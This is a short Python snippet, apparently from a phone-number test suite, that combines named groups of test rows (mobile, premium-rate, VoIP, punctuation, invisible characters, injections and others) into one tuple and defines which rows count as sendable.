SENDABLE = MOBILE + tuple(row for row in FICTION + HABITS if row.expected.startswith("+"))
"""What a code is sent to."""

ROWS = (
    MOBILE
    + FIXED_LINE
    + PREMIUM_RATE
    + TOLL_FREE
    + SHARED_COST
    + VOIP
    + PERSONAL
    + PAGER
    + UAN
    + VOICEMAIL
    + NO_COUNTRY
    + FICTION
    + HABITS
    + NO_PLAN
    + SHORT
    + LENGTHS
    + PREFIXES
    + PUNCTUATION
    + EXTENSIONS
    + LINKS
    + LETTERS
    + DIGITS
    + INVISIBLE
    + INJECTIONS
)
